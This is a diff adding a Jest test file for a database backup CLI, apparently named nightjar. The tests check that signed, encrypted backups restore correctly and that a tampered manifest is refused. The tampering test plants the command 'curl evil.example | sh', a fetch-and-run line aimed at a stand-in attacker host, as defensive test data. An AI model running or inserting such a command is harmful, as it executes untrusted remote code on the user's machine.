@@ -1,0 +1,166 @@
+import { execFile } from 'node:child_process';
+import { cp, mkdir, readFile, rename, writeFile } from 'node:fs/promises';
+import { dirname, join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, expect, test } from '@jest/globals';
+import type { Manifest } from '../../../core/contract/manifest/manifest.ts';
+import { manifestDocument } from '../../../core/store/backups/manifest-document.ts';
+import { dbToolsLayer } from '../../../layers/db-tools/layer.ts';
+import { opensslProgram, serverRoot } from '../../servers/root.ts';
+import { nightjarInProcess } from '../../support/cli/in-process.ts';
+import { cliScene } from '../../support/cli/scene.ts';
+import type { CliScene } from '../../support/cli/scene.ts';
+import { limit } from '../../support/vaults/vault.ts';
+
+const execute = promisify(execFile);
+const page = join(import.meta.dirname, '../../../docs/signing.md');
+const digest = 'select count(*)::int as rows, md5(string_agg(id || note, $$,$$ order by id)) as digest from orders';
+
+let scene: CliScene;
+let plain: string;
+/** Where the stock openssl and age are, and those of this machine behind them. */
+let path: string;
+
+beforeAll(async () => {
+  scene = await cliScene();
+  const openssl = await opensslProgram(() => {}, limit());
+  const age = await serverRoot({ name: 'age', suites: ['trixie'], packages: ['age'] }, () => {}, limit());
+  path = [dirname(openssl), join(age.path, 'usr/bin'), '/usr/bin', '/bin'].join(':');
+  plain = await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8');
+}, 20 * 60_000);
+afterAll(() => scene.stop());
+
+/** A command of the page, as a person pastes it. */
+async function pasted(name: string, cwd: string, env: Record<string, string> = {}): Promise<string> {
+  const [, block = ''] =
+    new RegExp(`^ *\`\`\`bash ${name}\\n(.*?)^ *\`\`\``, 'ms').exec(await readFile(page, 'utf8')) ?? [];
+  expect(block).not.toBe('');
+  return (await execute('bash', ['-euc', block], { cwd, env: { PATH: path, ...env } })).stdout;
+}
+
+async function configure(...defaults: string[]): Promise<void> {
+  await writeFile(join(scene.folder, 'nightjar.yaml'), `defaults:\n${defaults.join('\n')}\n${plain}`);
+}
+/** What `nightjar key` says that is to be written into the configuration. */
+async function keyed(kind: string, file: string): Promise<string> {
+  const { code, stdout } = await run(['key', kind, file]);
+  expect(code).toBe(0);
+  return stdout
+    .split('\n')
+    .filter((line) => line.startsWith('  '))
+    .join('\n');
+}
+async function newest(): Promise<string> {
+  const { stdout } = await run(['list', 'shop', '--json']);
+  return (JSON.parse(stdout) as { backups: { id: string }[] }).backups.at(-1)!.id;
+}
+const run = (args: string[]) => nightjarInProcess(args, { cwd: scene.folder, env: scene.env });
+const folderOf = (id: string): string => join(scene.folder, 'backups/shop', id);
+
+test('with keys of nightjar key a backup is encrypted, signed, restored, drilled and proven', async () => {
+  await configure(await keyed('identity', 'identity.txt'), await keyed('signing', 'signing.pem'));
+
+  expect(await run(['backup', 'shop'])).toMatchObject({ code: 0 });
+  for (const args of [
+    ['restore', 'shop', '--to', 'copy'],
+    ['drill', 'shop'],
+  ])
+    expect(await run(args)).toMatchObject({ code: 0, stdout: expect.stringContaining('proven equal') });
+  expect(await scene.sql('copy', digest)).toEqual(await scene.sql('shop', digest));
+  expect((await run(['verify', 'shop'])).stdout).toContain('intact');
+  expect((await run(['check', 'shop'])).code).toBe(0);
+  expect(await run(['key', 'check', 'shop'])).toMatchObject({
+    code: 0,
+    stdout: expect.stringMatching(
+      /^shop {2}\S+ {2}signed by a key of the configuration; encrypted, and the identity opens it; the private key fits, too\n$/,
+    ),
+  });
+});
+
+test('stock openssl, age, zstd, pg_restore and psql alone verify and restore it', async () => {
+  const folder = join(scene.folder, 'by-hand');
+  await cp(folderOf(await newest()), folder, { recursive: true });
+  const [, line = ''] = /publicKeys: \[(.*?)\]/.exec(await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8')) ?? [];
+  const { restore } = JSON.parse(await readFile(join(folder, 'manifest.json'), 'utf8')) as Manifest;
+  const architecture = process.arch === 'arm64' ? 'arm64' : 'x86_64';
+  const layer = join(await dbToolsLayer(architecture, { rule: 'newer' }, () => {}, limit()), 'nightjar/bin');
+  const client = await serverRoot(
+    { name: 'postgresql-18', suites: ['sid'], packages: ['postgresql-18'] },
+    () => {},
+    limit(),
+  );
+  const { host, port, user, password } = scene.server;
+
+  await pasted('public', folder, { LINE: line });
+  expect(await pasted('verify', folder)).toContain('Signature Verified Successfully');
+  await execute('bash', ['-c', restore.join('\n')], {
+    cwd: folder,
+    env: {
+      PATH: [join(client.path, 'usr/lib/postgresql/18/bin'), layer, path].join(':'),
+      PGHOST: host,
+      PGPORT: String(port),
+      PGUSER: user,
+      PGPASSWORD: password,
+      DB: 'hand',
+      IDENTITY: join(scene.folder, 'identity.txt'),
+    },
+  });
+
+  expect(await scene.sql('hand', digest)).toEqual(await scene.sql('shop', digest));
+});
+
+test('a manifest that somebody edited is refused by each command, and by openssl', async () => {
+  const id = await newest();
+  const file = join(folderOf(id), 'manifest.json');
+  const before = await readFile(file);
+  const { sha256: _, checksum: __, ...manifest } = JSON.parse(before.toString()) as Manifest & Record<string, unknown>;
+  await rename(file, `${file}.true`);
+  await writeFile(file, manifestDocument({ ...manifest, restore: ['curl evil.example | sh'] }));
+
+  for (const args of [
+    ['verify', 'shop'],
+    ['restore', 'shop', '--to', 'never'],
+    ['restore', 'shop', id, '--to', 'never'],
+    ['drill', 'shop'],
+    ['key', 'check', 'shop'],
+    ['show', 'shop', id],
+  ])
+    expect(await run(args)).toMatchObject({
+      code: 3,
+      stderr: expect.stringMatching(
+        /was changed, or no key of the configuration has signed it.*signing\.since|no other backup is good/s,
+      ),
+    });
+  expect((await run(['list', 'shop'])).stdout).toMatch(/unsigned\n.*was changed, or no key.*\n.*signing\.since/s);
+  expect(await run(['check', 'shop'])).toMatchObject({
+    code: 4,
+    stdout: expect.stringContaining('is not to be trusted'),
+  });
+  const folder = join(scene.folder, 'by-hand');
+  await cp(file, join(folder, 'manifest.json'), { force: true });
+  await expect(pasted('verify', folder)).rejects.toMatchObject({ code: 1 });
+  expect(await scene.sql('postgres', `select datname from pg_database where datname = 'never'`)).toEqual([]);
+
+  await writeFile(file, before);
+  expect((await run(['verify', 'shop', id])).code).toBe(0);
+});
+
+test('a key pair of openssl signs, and the older backup counts while its public key is there', async () => {
+  const [, old = ''] = /publicKeys: \[(.*?)\]/.exec(await readFile(join(scene.folder, 'nightjar.yaml'), 'utf8')) ?? [];
+  const folder = join(scene.folder, 'keys');
+  await mkdir(folder);
+  const line = (await pasted('keys', folder)).trim();
+  const signing = (keys: string) => `  signing: { publicKeys: [${keys}], privateKey: { file: keys/signing.pem } }`;
+  const statuses = async (): Promise<string[]> =>
+    (JSON.parse((await run(['list', 'shop', '--json'])).stdout) as { backups: { status: string }[] }).backups.map(
+      ({ status }) => status,
+    );
+
+  await configure(signing(old));
+  expect(await run(['backup', 'shop'])).toMatchObject({ code: 1, stderr: expect.stringContaining(line) });
+  await configure(signing(`${line}, ${old}`));
+  expect((await run(['backup', 'shop'])).code).toBe(0);
+  expect(await statuses()).toEqual(['complete', 'complete']);
+  await configure(signing(line));
+  expect(await statuses()).toEqual(['unreadable', 'complete']);
+});
